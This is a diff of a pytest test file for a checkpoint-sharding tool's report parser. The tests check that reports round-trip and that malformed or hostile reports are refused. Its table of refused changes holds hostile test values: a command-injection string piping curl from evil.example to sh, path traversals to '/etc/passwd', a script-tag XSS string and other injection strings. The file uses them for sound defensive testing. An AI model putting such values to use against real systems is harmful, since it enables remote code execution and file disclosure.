@@ -1,17 +1,14 @@
 """Reports from anybody: what this tool writes is read, all else is refused in one sentence."""
 
-import copy
 import json
 from dataclasses import replace
 from functools import reduce
-from pathlib import Path
 from typing import Any, get_args
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from sharding import job
 from sharding.core.errors import SourceError
 from sharding.core.limits import CURVE_MOMENTS
 from sharding.core.options import Options
@@ -34,41 +31,42 @@ from sharding.loading.costs import Cause, ClassicCost, Comparison, Kind, LoadCos
 from sharding.planning.plan import plan_checkpoint
 from sharding.report.report import make_report
 from sharding.report.schema import Report, parse_report, to_json
-from tests.conftest import random_tensors, write_checkpoint
+from tests.report.results import made, of
 from tests.tensors import stored_tensor
 
 
-@pytest.fixture(scope="module")
-def document(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
-    folder = tmp_path_factory.mktemp("report")
-    source = write_checkpoint(folder / "in", {"model.safetensors": random_tensors()}, False)
-    *_, _ = job.shard(str(source), str(folder / "out"), "60kB")
-    report: dict[str, Any] = json.loads((folder / "out/sharding_report.json").read_text())
+@pytest.fixture
+def document() -> dict[str, Any]:
+    """A report as JSON, which a test may change."""
+    report: dict[str, Any] = json.loads(json.dumps(to_json(made().report)))
     return report
 
 
 KEYS = {
-    (): "schema tool finished engine source destination plan plan_id shards files verification overflowed resources fleet comparison",
-    (
-        "source",
-    ): "kind repo_id revision architecture library variant other_variants in_pieces base total_bytes total_parameters tensors dtypes components weight_files",
-    ("source", "components", 0): "folder base metadata",
-    ("source", "weight_files", 0): "file bytes tensors",
-    ("destination",): "kind repo_id revision",
-    ("plan",): "max_shard_bytes strategy order dtype dequantized total_bytes total_parameters shards weight_map "
-    "stages pipeline rank findings plan_id",
-    ("plan", "shards", 0): "file bytes tensors",
-    ("shards", 0): "file bytes sha256",
-    ("verification",): "identical tensors bytes seconds method mismatches dtype dequantized",
-    (
-        "resources",
-    ): "peak_anon_bytes seconds bytes_read read_requests bytes_uploaded bytes_deduplicated disk_bytes_written",
+    "": "schema tool finished engine source destination plan plan_id shards files verification overflowed resources "
+    "fleet comparison",
+    "source": "kind repo_id revision architecture library variant other_variants in_pieces base total_bytes "
+    "total_parameters tensors dtypes components weight_files",
+    "source components 0": "folder base metadata",
+    "source weight_files 0": "file bytes tensors",
+    "destination": "kind repo_id revision",
+    "plan": "max_shard_bytes strategy order dtype dequantized total_bytes total_parameters shards weight_map stages "
+    "pipeline rank findings plan_id",
+    "plan shards 0": "file bytes tensors",
+    "shards 0": "file bytes sha256",
+    "verification": "identical tensors bytes seconds method mismatches dtype dequantized",
+    "resources": "peak_anon_bytes seconds bytes_read read_requests bytes_uploaded bytes_deduplicated disk_bytes_written",
 }
+
+
+def within(document: Any, path: str) -> Any:
+    """The value at a place, such as "shards 0"."""
+    return reduce(lambda value, key: value[int(key) if key.isdigit() else key], path.split(), document)
 
 
 def test_a_report_has_these_keys_in_this_order(document: dict[str, Any]) -> None:
     for path, keys in KEYS.items():
-        assert list(reduce(lambda value, key: value[key], path, document)) == keys.split(), path
+        assert list(within(document, path)) == keys.split(), path
 
 
 TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
@@ -155,7 +153,7 @@ def reports(draw: st.DrawFn) -> Report:
     )
 
 
-@settings(max_examples=40)
+@settings(max_examples=25)
 @given(reports())
 def test_what_is_written_is_read_back_as_it_was(report: Report) -> None:
     text = json_file(to_json(report))
@@ -167,55 +165,55 @@ def test_what_is_written_is_read_back_as_it_was(report: Report) -> None:
     }
 
 
-CHANGES: dict[str, tuple[tuple[str | int, ...], Any]] = {
-    "another schema": (("schema",), 2),
-    "a text for the schema": (("schema",), "1"),
-    "a number for a list": (("shards",), 7),
-    "a list for an object": (("plan",), []),
-    "nothing for an object": (("source",), None),
-    "a number for a text": (("tool",), 7),
-    "a text for a number": (("resources", "bytes_read"), "12"),
-    "less than nothing": (("verification", "tensors"), -1),
-    "more than there can be": (("plan", "total_bytes"), 2**70),
-    "no number": (("resources", "seconds"), float("nan")),
-    "a path for a file": (("shards", 0, "file"), "../../x"),
-    "a path that begins at the root": (("plan", "shards", 0, "file"), "/etc/passwd"),
-    "markup for a file": (("shards", 0, "file"), "<script>alert(1)</script>"),
-    "another digest": (("shards", 0, "sha256"), "0" * 63 + "G"),
-    "another file than planned": (("shards", 0, "file"), "model-00009-of-00009.safetensors"),
-    "no shards": (("plan", "shards"), []),
-    "a repo that is none": (("source",), {"kind": "hub", "repo_id": "../../x"}),
-    "a text that is very long": (("verification", "method"), "x" * 3000),
-    "no date": (("finished",), "yesterday"),
-    "a command for a dtype": (("plan", "dtype"), "fp16; curl evil.example | sh #"),
-    "a branch for a commit": (("source",), {"kind": "hub", "repo_id": "me/model", "revision": "main"}),
-    "a path for a weight file of the source": (("source", "weight_files", 0, "file"), "../../x"),
-    "a base that is none": (("source", "base"), {"kind": "hub", "repo_id": "../../x", "revision": "a" * 40}),
-    "a command for a base": (("source", "base"), {"kind": "hub", "repo_id": "a/b; evil", "revision": "a" * 40}),
-    "a branch for the commit of a base": (("source", "base"), {"kind": "hub", "repo_id": "a/b", "revision": "main"}),
-    "a folder without a name": (("source",), {"kind": "folder", "repo_id": ""}),
-    "the folder .": (("source",), {"kind": "folder", "repo_id": "."}),
-    "a folder with a repo's name": (("source",), {"kind": "folder", "repo_id": "me/model"}),
-    "a base without a name": (("source", "base"), {"kind": "folder", "repo_id": "", "revision": "1"}),
+CHANGES: dict[str, tuple[str, Any]] = {
+    "another schema": ("schema", 2),
+    "a text for the schema": ("schema", "1"),
+    "a number for a list": ("shards", 7),
+    "a list for an object": ("plan", []),
+    "nothing for an object": ("source", None),
+    "a number for a text": ("tool", 7),
+    "a text for a number": ("resources bytes_read", "12"),
+    "less than nothing": ("verification tensors", -1),
+    "more than there can be": ("plan total_bytes", 2**70),
+    "no number": ("resources seconds", float("nan")),
+    "a path for a file": ("shards 0 file", "../../x"),
+    "a path that begins at the root": ("plan shards 0 file", "/etc/passwd"),
+    "markup for a file": ("shards 0 file", "<script>alert(1)</script>"),
+    "another digest": ("shards 0 sha256", "0" * 63 + "G"),
+    "another file than planned": ("shards 0 file", "model-00009-of-00009.safetensors"),
+    "no shards": ("plan shards", []),
+    "a repo that is none": ("source", {"kind": "hub", "repo_id": "../../x"}),
+    "a text that is very long": ("verification method", "x" * 3000),
+    "no date": ("finished", "yesterday"),
+    "a command for a dtype": ("plan dtype", "fp16; curl evil.example | sh #"),
+    "a branch for a commit": ("source", {"kind": "hub", "repo_id": "me/model", "revision": "main"}),
+    "a path for a weight file of the source": ("source weight_files 0 file", "../../x"),
+    "a base that is none": ("source base", {"kind": "hub", "repo_id": "../../x", "revision": "a" * 40}),
+    "a command for a base": ("source base", {"kind": "hub", "repo_id": "a/b; evil", "revision": "a" * 40}),
+    "a branch for the commit of a base": ("source base", {"kind": "hub", "repo_id": "a/b", "revision": "main"}),
+    "a folder without a name": ("source", {"kind": "folder", "repo_id": ""}),
+    "the folder .": ("source", {"kind": "folder", "repo_id": "."}),
+    "a folder with a repo's name": ("source", {"kind": "folder", "repo_id": "me/model"}),
+    "a base without a name": ("source base", {"kind": "folder", "repo_id": "", "revision": "1"}),
     "a base in a folder with a repo's name": (
-        ("source", "base"),
+        "source base",
         {"kind": "folder", "repo_id": "a/b", "revision": "1"},
     ),
-    "another kind of base": (("source", "base"), {"kind": "s3", "repo_id": "a/b", "revision": "a" * 40}),
-    "a shard that was not planned": (("plan", "shards", 0, "file"), "model-00009-of-00009.safetensors"),
-    "fewer bytes than planned": (("plan", "total_bytes"), 7),
-    "a shard with less than its tensors": (("shards", 0, "bytes"), 7),
-    "a shard that is none of its files": (("files",), ["README.md"]),
-    "a proof of fewer tensors": (("verification", "tensors"), 3),
-    "a proof of fewer bytes": (("verification", "bytes"), 3),
-    "a proof of another dtype": (("verification", "dtype"), "fp16"),
-    "a source with more tensors": (("source", "tensors"), 99),
-    "a source with more bytes": (("source", "total_bytes"), 10**9),
-    "a rank of no pipeline": (("plan", "rank"), 0),
-    "a pipeline without stages": (("plan", "pipeline"), {"transformers": "5.23.0", "layers": [[0, 2], [2, 4]]}),
-    "a pipeline that is a command": (("plan", "pipeline"), {"transformers": '5"); evil()', "layers": [[0, 2], [2, 4]]}),
+    "another kind of base": ("source base", {"kind": "s3", "repo_id": "a/b", "revision": "a" * 40}),
+    "a shard that was not planned": ("plan shards 0 file", "model-00009-of-00009.safetensors"),
+    "fewer bytes than planned": ("plan total_bytes", 7),
+    "a shard with less than its tensors": ("shards 0 bytes", 7),
+    "a shard that is none of its files": ("files", ["README.md"]),
+    "a proof of fewer tensors": ("verification tensors", 3),
+    "a proof of fewer bytes": ("verification bytes", 3),
+    "a proof of another dtype": ("verification dtype", "fp16"),
+    "a source with more tensors": ("source tensors", 99),
+    "a source with more bytes": ("source total_bytes", 10**9),
+    "a rank of no pipeline": ("plan rank", 0),
+    "a pipeline without stages": ("plan pipeline", {"transformers": "5.23.0", "layers": [[0, 2], [2, 4]]}),
+    "a pipeline that is a command": ("plan pipeline", {"transformers": '5"); evil()', "layers": [[0, 2], [2, 4]]}),
     "a stage of files that are none": (
-        ("plan", "stages"),
+        "plan stages",
         [{"modules": [], "blocks": [], "files": ["x.safetensors"], "bytes": 1, "also_needs": []}],
     ),
 }
@@ -223,17 +221,14 @@ CHANGES: dict[str, tuple[tuple[str | int, ...], Any]] = {
 
 @pytest.mark.parametrize("change", CHANGES)
 def test_what_this_tool_does_not_write_is_refused(document: dict[str, Any], change: str) -> None:
-    (*path, last), value = CHANGES[change]
-    changed = copy.deepcopy(document)
-    place: Any = changed
-    for key in path:
-        place = place[key]
+    path, value = CHANGES[change]
+    place, last = within(document, path.rpartition(" ")[0]), path.rpartition(" ")[2]
     place[last] = {**(place[last] or {}), **value} if isinstance(value, dict) else value
     with pytest.raises(SourceError, match="is not a report of this tool"):
-        parse_report(json.dumps(changed))
+        parse_report(json.dumps(document))
 
 
-@given(st.binary() | st.recursive(st.none() | st.text() | st.integers() | st.floats(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)).map(json.dumps))  # fmt: skip
+@given(st.binary() | st.recursive(st.none() | st.text() | st.integers() | st.floats(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)).map(json.dumps) | st.just("[" * 1_000_000))  # fmt: skip
 def test_anything_at_all_is_refused_in_one_sentence(text: bytes | str) -> None:
     with pytest.raises(SourceError) as caught:
         parse_report(text)
@@ -241,29 +236,16 @@ def test_anything_at_all_is_refused_in_one_sentence(text: bytes | str) -> None:
 
 
 def test_a_tensor_that_is_planned_twice_is_refused(document: dict[str, Any]) -> None:
-    changed = copy.deepcopy(document)
-    for shard in changed["plan"]["shards"][:2]:
-        shard["tensors"] = document["plan"]["shards"][0]["tensors"]
+    first, second = document["plan"]["shards"][:2]
+    second["tensors"] = first["tensors"]
     with pytest.raises(SourceError, match="a tensor is planned twice"):
-        parse_report(json.dumps(changed))
+        parse_report(json.dumps(document))
 
 
-def test_brackets_without_end_are_refused() -> None:
-    with pytest.raises(SourceError):
-        parse_report("[" * 1_000_000)
-
-
-def test_a_report_that_the_page_would_show_names_a_real_commit(document: dict[str, Any], tmp_path: Path) -> None:
-    changed = copy.deepcopy(document)
-    changed["source"] |= {"kind": "hub", "repo_id": "me/model", "revision": "a" * 40}
-    assert parse_report(json.dumps(changed)).source.revision == "a" * 40
-    changed["source"]["revision"] = "a/../../b"
+def test_a_report_that_the_page_would_show_names_a_real_commit(document: dict[str, Any]) -> None:
+    document["source"] |= {"kind": "hub", "repo_id": "me/model", "revision": "a/../../b"}
     with pytest.raises(SourceError, match="source"):
-        parse_report(json.dumps(changed))
-
-
-def test_a_base_is_a_repo_at_a_commit_or_a_folder_of_any_name(document: dict[str, Any]) -> None:
-    changed = copy.deepcopy(document)
+        parse_report(json.dumps(document))
     for base in (RepoRef("hub", "me/base", "a" * 40), RepoRef("folder", "my base; ..x", "1")):
-        changed["source"]["base"] = {"kind": base.kind, "repo_id": base.repo_id, "revision": base.revision}
-        assert parse_report(json.dumps(changed)).source.base == base
+        report = of(made().report, base=base)
+        assert parse_report(json.dumps(to_json(report))) == report
